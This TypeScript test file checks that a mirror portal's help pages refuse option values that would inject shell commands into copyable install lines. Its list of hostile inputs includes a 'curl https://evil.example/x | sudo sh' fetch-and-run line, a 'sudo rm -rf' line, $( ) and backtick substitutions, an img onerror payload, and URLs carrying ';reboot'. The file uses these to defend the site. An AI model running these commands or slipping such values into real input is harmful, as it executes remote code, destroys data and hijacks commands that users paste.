import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, describe, expect, test } from 'vitest';
import { closeBrowser, visit } from './browser.ts';
import { isWhole, sampleOf } from './faults/chance.ts';
import { checkout, PortalTest } from './portal-test.ts';
import { testWith } from './programs.ts';

afterAll(closeBrowser);

/** What a link, a storage or a field might hold to get a command into lines that readers paste; each says `evil`. */
const hostile = [
  '1; curl https://evil.example/x | sudo sh #\nsudo rm -rf /evil',
  '1\nevil',
  '1\revil',
  '1\u2028evil',
  '$(evil)',
  '`evil`',
  '1 evil',
  '1\u00a0evil',
  "1'evil",
  '1"evil',
  '1\\evil',
  '1|evil',
  '1&evil',
  '1>evil',
  '1*evil',
  '1{evil,evil}',
  '~evil',
  '!evil',
  '#evil',
  '-evil',
  '--evil=1',
  '../evil',
  '1/../evil',
  'https://evil.example/',
  '//evil.example/',
  '1@evil.example',
  '1:evil',
  '1%0Aevil',
  '<img src=x onerror=evil>',
  '{{evil}}',
  '1\u0000evil',
  '1\u001bevil',
  '1\u202eevil',
  '1\u200bevil',
  '１evil',
  `1${'evil'.repeat(20)}`,
];

const mirrors = readdirSync(join(checkout, 'content/library/help'));

/** A site that carries everything that the library has help of. */
async function everything(): Promise<PortalTest> {
  const rows = mirrors.map((cname) => ({ cname, state: 'success' }));
  const portal = PortalTest.from()
    .write('content/list.yaml', JSON.stringify({ mirrors: rows }))
    .write(
      'content/portal.yaml',
      `site: { url: https://mirrors.example.org, abbr: EXAMPLE }
languages: [en]
endpoints: [{ label: six, resolve: 6.mirrors.example.org }]
sources: [{ type: list, file: list.yaml }]
`,
    );
  await portal.build();
  return portal;
}

/** Everything of a page that somebody may paste: its lines, the commands beside them, and what the buttons copy. */
async function pasted(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const copied: string[] = [];
    Object.defineProperty(navigator, 'clipboard', {
      configurable: true,
      value: { writeText: async (text: string) => void copied.push(text) },
    });
    for (const button of document.querySelectorAll<HTMLElement>('[data-copy]')) button.click();
    await Promise.resolve();
    const shown = [...document.querySelectorAll('article pre, article code')].map(({ textContent }) => textContent);
    return [...shown, ...copied].join('\n');
  });
}

/** Names of the options that a page has, and of those that hold a text. */
const options = (page: Page): Promise<{ all: string[]; texts: string[] }> =>
  page.evaluate(() => {
    const controls = [...document.querySelectorAll<HTMLInputElement>('.choices [name]')];
    const names = (some: HTMLInputElement[]) => [...new Set(some.map(({ name }) => name))];
    return { all: names(controls), texts: names(controls.filter(({ type }) => type === 'text')) };
  });

describe('no option of any page of the library', () => {
  testWith(
    ['chromium'],
    'takes a command from the address, the storage, or its field',
    async () => {
      const portal = await everything();
      const { page, complaints } = await visit(join(portal.root, 'out'), '/help/');
      const { origin } = new URL(page.url());
      let texts = 0;
      const pages = readdirSync(join(portal.root, 'out/help')).filter((slug) =>
        portal.has(`out/help/${slug}/index.html`),
      );
      for (const slug of sampleOf(pages, 16, 'help injection')) {
        await page.goto(`${origin}/help/${slug}/`);
        const plain = await pasted(page);
        const names = await options(page);
        texts += names.texts.length;

        const query = new URLSearchParams(hostile.flatMap((value) => names.all.map((name) => [name, value])));
        await page.goto(`${origin}/help/${slug}/?${query}&__proto__=evil&constructor=evil`);
        expect(await pasted(page), `${slug}, address`).toBe(plain);
        const refused = await page.locator('.choices [role=status]').allTextContents();
        expect(refused.filter((text) => text.startsWith('Ignored:')).length, slug).toBeGreaterThanOrEqual(
          names.all.length > 0 ? 1 : 0,
        );

        for (const value of [hostile[0]!, '$(evil)']) {
          const stored = JSON.stringify(Object.fromEntries(names.all.map((name) => [name, value])));
          await page.evaluate((text) => localStorage.setItem('heliostat.help', text), stored);
          await page.goto(`${origin}/help/${slug}/`);
          expect(await pasted(page), `${slug}, storage`).toBe(plain);
        }
        await page.evaluate(() => localStorage.clear());

        await page.goto(`${origin}/help/${slug}/`);
        for (const name of names.texts) {
          const field = page.locator(`input[name="${name}"]`).first();
          // A field drops line breaks itself, so that another value is left.
          for (const value of hostile.filter((one) => !/^1[\n\r]evil$/.test(one))) {
            await field.evaluate((element: HTMLInputElement, text) => {
              element.value = text;
              element.dispatchEvent(new Event('input', { bubbles: true }));
            }, value);
            expect(await pasted(page), `${slug}, field ${name}, ${JSON.stringify(value)}`).toBe(plain);
            expect(await field.getAttribute('aria-invalid')).toBe('true');
          }
          expect(page.url()).not.toContain('evil');
          expect(await page.evaluate(() => localStorage.length)).toBe(0);
        }
      }
      // A sample may have none.
      if (isWhole) expect(texts).toBeGreaterThan(9);
      expect(complaints).toEqual([]);
    },
    isWhole ? 900_000 : 300_000,
  );

  testWith(['chromium'], 'and what fits is taken, remembered, and no longer complained of', async () => {
    const portal = await everything();
    const { page } = await visit(join(portal.root, 'out'), '/help/postgresql/?version=1%20x');
    const field = page.locator('input[name=version]').first();
    expect(await field.getAttribute('aria-invalid')).toBe('true');
    expect(await page.locator('.choices [role=status]').first().textContent()).toContain(
      'Ignored: a version starts with a digit',
    );
    await field.fill('17');
    expect(await pasted(page)).toContain('sudo apt install postgresql-17\n');
    expect(await field.getAttribute('aria-invalid')).toBe('false');
    expect(page.url()).toContain('version=17');
  });
});

describe('an address that a source tells', () => {
  test('never gets a command into the lines of help', async () => {
    const urls = ['/x;reboot', "/x'$(reboot)'", '/x|reboot&', '/x%0Areboot', 'https://a;reboot$(x)/debian', '/a b/`x`'];
    for (const url of urls) {
      const portal = PortalTest.from()
        .write(
          'content/portal.yaml',
          'site: { url: https://mirrors.example.org, abbr: EX }\nlanguages: [en]\nsources: [{ type: mirrorz, file: m.json }]\n',
        )
        .write(
          'content/m.json',
          JSON.stringify({
            site: { url: 'https://mirrors.example.org', abbr: 'EX' },
            info: [],
            mirrors: [{ cname: 'debian', url, status: 'U' }],
          }),
        );
      await portal.build();
      if (!portal.has('out/help/debian/index.txt')) continue;
      const lines = portal.read('out/help/debian/index.txt');
      expect(lines, url).not.toMatch(/[;|&'`$(]\s*reboot|\$\(|`x`/);
      for (const [file, { text }] of portal.files('out/help/debian'))
        if (file.startsWith('files/')) expect(text).not.toMatch(/[;|&'`$(]\s*reboot/);
    }
  });
});
